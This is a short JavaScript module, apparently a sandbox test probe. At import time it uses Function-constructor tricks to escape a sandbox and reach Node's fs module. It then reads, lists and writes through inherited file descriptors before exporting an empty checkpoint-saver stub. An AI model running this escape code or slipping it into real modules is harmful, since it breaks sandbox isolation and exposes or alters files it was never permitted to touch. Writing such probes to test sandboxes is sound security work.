// Tries: to read and write whatever descriptors its process has inherited
// @ts-nocheck
const node = (name) => {
  for (const way of [
    () => process.getBuiltinModule(name),
    () => globalThis.require(name),
    () => (() => {}).constructor("return process")().getBuiltinModule(name),
    () => console.log.constructor.constructor("return process")().mainModule.require(name),
  ])
    try { const found = way(); if (found) return found; } catch {}
  throw new Error("no modules of Node");
};
try {
  const fs = node("node:fs");
  for (let fd = 3; fd < 64; fd++) {
    try { if (fs.fstatSync(fd).isFile()) console.log(String(fs.readFileSync(fd)).slice(0, 500)); } catch {}
    try { for (const name of fs.readdirSync("/proc/self/fd/" + fd)) console.log(name); } catch {}
    try { fs.writeFileSync("/proc/self/fd/" + fd + "/written", ""); } catch {}
  }
} catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
